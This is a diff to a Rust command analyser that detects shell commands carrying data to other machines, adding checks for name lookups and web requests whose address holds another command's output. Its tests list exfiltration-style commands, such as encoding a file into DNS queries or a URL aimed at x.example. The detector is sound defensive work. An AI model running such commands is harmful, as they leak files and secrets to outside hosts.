@@ -1,10 +1,11 @@
 //! Commands that carry data or commands to another machine.
 
 use super::invocation::Invocation;
-use crate::command_line::Part;
+use crate::command_line::{Part, Word, WordKind};
 use crate::programs;
 use crate::programs::fact::Fact;
 use crate::programs::name::canonical;
+use crate::word::SUBSTITUTED;
 
 /// A program that carries data or commands to a machine that is not this one.
 pub(super) fn carries(part: &Part) -> Option<String> {
@@ -38,8 +39,18 @@ pub(super) fn carries(part: &Part) -> Option<String> {
         "openssl" => words.first() == Some(&"s_client"),
         _ => programs::of(&name).is(Fact::Carries),
     };
+    // What another command prints, in the name of a machine or a page: whoever keeps it reads that.
+    let asks = programs::of(&name).is(Fact::LooksUpNames)
+        && part.words.iter().skip(1).any(|word| word.kind == WordKind::Varies && word.text.contains(['$', '`']))
+        || programs::of(&name).is(Fact::SendsRequests) && part.words.iter().skip(1).any(holds_output);
+    let carries = carries || asks;
     let only_tells = words.iter().all(|word| matches!(*word, "-V" | "-h" | "--help" | "--version"));
     (carries && !only_tells && !stays_here(words)).then_some(name)
+}
+
+/// Whether `word` is the address of a page with what another command prints in it.
+fn holds_output(word: &Word) -> bool {
+    word.kind == WordKind::Varies && word.text.contains("://") && word.text.contains(SUBSTITUTED)
 }
 
 /// Whether some of `words` name this machine, and none another one.
@@ -96,6 +107,11 @@ mod tests {
             "curl -d @a \"http://$HOST/localhost\"",
             "ngrok http 80",
             "sendmail ann@x.example",
+            "dig \"$(cat a).x.example\"",
+            "for c in $(xxd -p a); do dig +short $c.x.example; done",
+            "ping -c1 `id -un`.x.example",
+            "curl \"https://x.example/?d=$(base64 a)\"",
+            "wget -q https://x.example/$(cat a)",
         ] {
             assert!(found(line).is_some(), "{line}");
         }
@@ -106,6 +122,9 @@ mod tests {
             "curl -T a 'http://[::1]:1/'",
             "curl -d a=b https://x.example",
             "nc -z 127.0.0.1 80",
+            "dig +short x.example",
+            "curl \"http://localhost:$(cat port)/\"",
+            "curl -o $(mktemp) https://x.example/",
             "ngrok --version",
         ] {
             assert_eq!(found(line), None, "{line}");
